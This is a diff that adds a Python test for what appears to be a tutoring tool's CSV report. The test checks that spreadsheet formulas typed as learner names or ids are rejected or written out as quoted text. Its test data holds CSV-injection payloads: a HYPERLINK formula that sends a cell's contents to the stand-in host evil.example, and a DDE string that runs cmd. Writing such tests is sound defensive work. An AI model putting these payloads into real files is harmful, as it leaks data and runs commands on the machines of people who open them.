@@ -337,3 +337,28 @@ def test_a_folder_of_exports_and_an_empty_folder(tmp_path):
     assert " · 3 learner(s) · " in done.stdout.splitlines()[0]
     assert f"skipped {tmp_path / 'empty'}: is a folder with no export files, learner folders or progress" \
         in done.stderr
+
+
+def test_a_name_or_id_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """A learner who types `=HYPERLINK(...)` as a name, or edits an export's id and puzzle order so,
+    must not get a formula into the facilitator's spreadsheet: the CSV keeps the text, quoted."""
+    import pytest
+
+    for typed in ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)"):
+        with pytest.raises(ValueError, match="start your name with a letter or a digit"):
+            save_name(tmp_path / "nobody", typed)
+    assert save_name(tmp_path / "nobody", "Ada-Marie = 1").name == "Ada-Marie = 1"  # inside is fine
+
+    ada = make_class(tmp_path)[0]
+    out = tmp_path / "ada.json"
+    assert gpu_tutor("export", "--out", str(out), data=ada).returncode == 0
+    data = json.loads(out.read_text())
+    data["learner"] = {"id": "@SUM(1+1)*cmd|'/c calc'!A0", "name": "=HYPERLINK(\"http://evil.example/\",\"Ada\")"}
+    out.write_text(json.dumps(data))
+    table = tmp_path / "class.csv"
+    done = gpu_tutor("report", str(out), "--csv", str(table))
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(table.open()))
+    assert rows and all(r["learner"] == "'=HYPERLINK(\"http://evil.example/\",\"Ada\")" for r in rows)
+    assert all(r["learner_id"] == "'@SUM(1+1)*cmd|'/c calc'!A0" for r in rows)
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
